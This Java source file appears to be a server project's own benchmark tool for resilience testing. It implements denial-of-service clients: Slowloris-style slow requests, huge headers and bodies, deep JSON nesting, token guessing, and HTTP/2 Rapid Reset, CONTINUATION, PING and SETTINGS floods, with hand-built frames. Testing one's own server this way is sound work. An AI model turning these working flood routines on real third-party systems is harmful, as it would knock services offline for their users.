package dev.kontract.server.bench;

import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.IntFunction;

/**
 * Clients that harm a server, by kind. Each connects again when the server disconnects it, until the process is ended:
 * {@code java dev.kontract.server.bench.Attack KIND URL TOKEN}, where the URL has no TLS for the kinds of HTTP/2.
 */
final class Attack {

    /** What clients do. */
    enum Kind {
        IDLE,
        IDLE_USERS,
        SLOW_HEADS,
        SLOW_BODIES,
        LARGE_HEADS,
        LARGE_BODIES,
        DEEP_BODIES,
        GUESSED_TOKENS,
        RAPID_RESET,
        CONTINUATIONS,
        PINGS,
        SETTINGS
    }

    private static final int IDLE_CLIENTS = 10_000;
    private static final int SLOW_CLIENTS = 1_000;
    private static final int FAST_CLIENTS = 4;
    private static final int LARGE = 3_000_000;
    private static final long PAUSE_MILLIS = 1_000;
    private static final int FRAMES = 200;

    private static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, "");

    /** GET / over http to the authority "a", from the table that HPACK begins with. */
    private static final String GET = "\u0082\u0084\u0086A\u0001a";

    private static final int REPORT_SECONDS = 5;

    private final URI server;
    private final String token;
    private final AtomicLong opened = new AtomicLong();
    private final AtomicLong closed = new AtomicLong();

    private Attack(URI server, String token) {
        this.server = server;
        this.token = token;
    }

    /** Attacks. */
    public static void main(String[] arguments) throws Exception {
        Attack attack = new Attack(URI.create(arguments[1]), arguments[2]);
        Thread reports = new Thread(attack::report);
        reports.setDaemon(true);
        reports.start();
        attack.run(Kind.valueOf(arguments[0].toUpperCase(Locale.ROOT)));
    }

    private void report() {
        try {
            while (true) {
                TimeUnit.SECONDS.sleep(REPORT_SECONDS);
                long open = opened.get() - closed.get();
                System.out.println("    " + open + " connections are open, " + closed + " were closed");
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void run(Kind kind) throws IOException, InterruptedException {
        switch (kind) {
            case IDLE -> idle();
            case IDLE_USERS -> clients(SLOW_CLIENTS * 8, this::idleUser);
            case SLOW_HEADS -> clients(SLOW_CLIENTS, this::slowHead);
            case SLOW_BODIES -> clients(SLOW_CLIENTS, this::slowBody);
            case LARGE_HEADS -> clients(FAST_CLIENTS, this::largeHead);
            case LARGE_BODIES -> clients(FAST_CLIENTS, socket -> body(socket, "{\"a\":\"" + "a".repeat(LARGE) + "\"}"));
            case DEEP_BODIES -> clients(FAST_CLIENTS, socket -> body(socket, "{\"a\":".repeat(LARGE / 5)));
            case GUESSED_TOKENS -> clients(SLOW_CLIENTS, this::guess);
            case RAPID_RESET -> flood(i -> frame(1, 5, 2 * i + 1, GET) + frame(3, 0, 2 * i + 1, "\0\0\0\u0008"), "");
            case CONTINUATIONS -> flood(i -> frame(9, 0, 1, "\0\u0001xd" + "y".repeat(100)), frame(1, 1, 1, GET));
            case PINGS -> flood(i -> frame(6, 0, 0, "12345678"), "");
            case SETTINGS -> flood(i -> frame(4, 0, 0, "\0\u0004\0\0\u00ff\u00ff"), "");
        }
    }

    /** Has a connection, until the server or the client ends it. */
    @FunctionalInterface
    private interface Client {
        void use(Socket socket) throws IOException, InterruptedException;
    }

    private void clients(int count, Client client) throws InterruptedException {
        Thread[] threads = new Thread[count];
        for (int i = 0; i < count; i++) {
            threads[i] = new Thread(null, () -> repeat(client), "client", 128 * 1024L);
            threads[i].start();
        }
        for (Thread thread : threads) {
            thread.join();
        }
    }

    private void repeat(Client client) {
        while (!Thread.currentThread().isInterrupted()) {
            try (Socket socket = connect()) {
                opened.incrementAndGet();
                try {
                    client.use(socket);
                } finally {
                    closed.incrementAndGet();
                }
            } catch (IOException e) {
                Thread.onSpinWait(); // The server has disconnected.
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        }
    }

    private Socket connect() throws IOException {
        return server.getScheme().equals("https")
                ? TrustAll.context().getSocketFactory().createSocket(server.getHost(), server.getPort())
                : new Socket(server.getHost(), server.getPort());
    }

    private static void send(Socket socket, String text) throws IOException {
        OutputStream out = socket.getOutputStream();
        out.write(text.getBytes(StandardCharsets.ISO_8859_1));
        out.flush();
    }

    /** Opens connections that send nothing, from one thread. */
    private void idle() throws IOException, InterruptedException {
        Selector selector = Selector.open();
        ByteBuffer buffer = ByteBuffer.allocate(1024);
        for (int i = 0; i < IDLE_CLIENTS; i++) {
            open(selector);
        }
        while (selector.isOpen()) {
            selector.select();
            for (SelectionKey key : selector.selectedKeys()) {
                use((SocketChannel) key.channel(), key, buffer);
            }
            selector.selectedKeys().clear();
            Thread.sleep(1);
        }
    }

    private void use(SocketChannel channel, SelectionKey key, ByteBuffer buffer) throws IOException {
        try {
            if (key.isConnectable() && channel.finishConnect()) {
                opened.incrementAndGet();
                key.interestOps(SelectionKey.OP_READ);
            }
            if (key.isReadable() && channel.read(buffer.clear()) >= 0) {
                return;
            }
            if (!key.isReadable()) {
                return;
            }
        } catch (IOException e) {
            Thread.onSpinWait(); // The server has disconnected.
        }
        if (channel.isConnected()) {
            closed.incrementAndGet();
        }
        channel.close();
        open(key.selector());
    }

    private void open(Selector selector) throws IOException {
        SocketChannel channel = SocketChannel.open();
        channel.configureBlocking(false);
        channel.register(selector, SelectionKey.OP_CONNECT);
        channel.connect(new InetSocketAddress(server.getHost(), server.getPort()));
    }

    private String head(String method, String path, String more) {
        return method + ' ' + path + " HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer " + token + "\r\n" + more + "\r\n";
    }

    private void idleUser(Socket socket) throws IOException {
        send(socket, head("GET", "/version", ""));
        InputStream in = socket.getInputStream();
        while (in.read() >= 0) {
            Thread.onSpinWait(); // Nothing more is sent.
        }
    }

    private void slowHead(Socket socket) throws IOException, InterruptedException {
        send(socket, "GET /api HTTP/1.1\r\nHost: a\r\nX: ");
        drip(socket);
    }

    private void slowBody(Socket socket) throws IOException, InterruptedException {
        send(
                socket,
                head(
                        "POST",
                        "/api/v1/namespaces/default/configmaps",
                        "Content-Type: application/json\r\nContent-Length: " + LARGE + "\r\n"));
        drip(socket);
    }

    private static void drip(Socket socket) throws IOException, InterruptedException {
        while (true) {
            Thread.sleep(PAUSE_MILLIS);
            send(socket, " ");
        }
    }

    private void largeHead(Socket socket) throws IOException {
        InputStream in = new BufferedInputStream(socket.getInputStream());
        send(socket, head("GET", "/version", "X: " + "x".repeat(LARGE) + "\r\n"));
        in.transferTo(OutputStream.nullOutputStream());
    }

    private void body(Socket socket, String body) throws IOException {
        send(
                socket,
                head(
                                "POST",
                                "/api/v1/namespaces/default/configmaps",
                                "Content-Type: application/json\r\nConnection: close\r\nContent-Length: "
                                        + body.length() + "\r\n")
                        + body);
        socket.getInputStream().transferTo(OutputStream.nullOutputStream());
    }

    private void guess(Socket socket) throws IOException {
        byte[] answer = new byte[4096];
        do {
            send(socket, "GET /api HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer guess\r\n\r\n");
        } while (socket.getInputStream().read(answer) >= 0);
    }

    private void flood(IntFunction<String> frame, String before) throws InterruptedException {
        clients(FAST_CLIENTS, socket -> {
            Thread reader = new Thread(() -> discard(socket));
            reader.setDaemon(true);
            reader.start();
            send(socket, PREFACE + before);
            for (int i = 0; i < Integer.MAX_VALUE / 4; i += FRAMES) {
                ByteArrayOutputStream batch = new ByteArrayOutputStream();
                for (int k = 0; k < FRAMES; k++) {
                    batch.writeBytes(frame.apply(i + k).getBytes(StandardCharsets.ISO_8859_1));
                }
                batch.writeTo(socket.getOutputStream());
            }
        });
    }

    private static void discard(Socket socket) {
        try {
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
            socket.close();
        } catch (IOException e) {
            Thread.onSpinWait(); // The server has disconnected.
        }
    }

    /** Returns a frame of HTTP/2 (RFC 9113, 4.1). */
    private static String frame(int type, int flags, int stream, String payload) {
        StringBuilder frame = new StringBuilder();
        frame.append((char) 0).append((char) (payload.length() >> 8)).append((char) (payload.length() & 0xFF));
        frame.append((char) type).append((char) flags);
        for (int shift = 24; shift >= 0; shift -= 8) {
            frame.append((char) (stream >> shift & 0xFF));
        }
        return frame.append(payload).toString();
    }
}
